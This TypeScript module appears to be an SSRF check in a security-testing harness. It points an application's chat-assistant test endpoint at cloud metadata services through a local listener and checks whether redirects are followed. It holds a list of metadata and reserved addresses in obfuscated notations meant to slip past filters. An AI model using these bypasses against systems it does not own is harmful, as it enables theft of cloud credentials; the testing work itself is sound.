import { isIPv6 } from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { judge } from '../attack.ts';
import { listenFor } from '../listener.ts';

/** Metadata services of clouds, and reserved addresses, in notations that hide what they are. */
const hosts = [
  ...['169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16', '192.0.0.192', '0.0.0.0'],
  ...['2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.254.43518', '169.254.169.254.'],
  ...['[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::1]'],
  ...[
    '[::a9fe:a9fe]',
    '[fd00:ec2::254]',
    '[fe80::1]',
    'metadata.google.internal',
    'Metadata.Google.Internal.',
  ],
];

/** Asks the server to test an assistant at an address. Nothing is stored. */
const testAssistant = ({ admin }: Target, facts: object) =>
  admin.call('POST', '/api/v1/settings/chatai/testing/', {
    ...{ CHAT_AI_ENABLED: true, GPT_API_KEY: 'attack', GPT_MODEL: 'attack', GPT_PROXY: '' },
    ...facts,
  });

/**
 * The server is asked to connect to metadata services, through a proxy of this program, which hears of every
 * request that is let out; and to follow a redirect to another address.
 */
export const outgoing: Attack = {
  name: 'outgoing',
  run: async (target) => {
    const heard: string[] = [];
    const listener = await listenFor(target.url, (socket) => {
      socket.once('data', (data) => {
        const [line = ''] = data.toString('latin1').split('\r\n');
        heard.push(line);
        const location = `http://${here}/stolen`;
        socket.end(`HTTP/1.1 302 Found\r\nLocation: ${location}\r\nContent-Length: 0\r\n\r\n`);
      });
    });
    const { address, port } = listener;
    const here = `${isIPv6(address) ? `[${address}]` : address}:${port}`;
    const proxy = `http://${here}`;
    try {
      await testAssistant(target, { GPT_BASE_URL: 'http://assistant.example/v1', GPT_PROXY: proxy });
      if (heard.length === 0)
        return { result: 'not applicable', sentence: 'The installation does not reach this machine.' };
      const faults: string[] = [];
      for (const host of hosts) {
        heard.length = 0;
        await testAssistant(target, { GPT_BASE_URL: `http://${host}/latest`, GPT_PROXY: proxy });
        if (heard.length > 0) faults.push(`a request to ${host} was let out: ${heard[0]}`);
        const { status } = await testAssistant(target, {
          ...{ GPT_BASE_URL: 'http://assistant.example/v1', GPT_PROXY: `http://${host}:${port}` },
        });
        if (status < 400) faults.push(`${host} was used as a proxy`);
      }
      heard.length = 0;
      await testAssistant(target, { GPT_BASE_URL: `${proxy}/v1` });
      if (heard.some((line) => line.includes('/stolen'))) faults.push('a redirect was followed');
      return judge(
        faults,
        `No request to ${hosts.length} forbidden hosts was let out, and no redirect followed.`,
      );
    } finally {
      listener.stop();
    }
  },
};
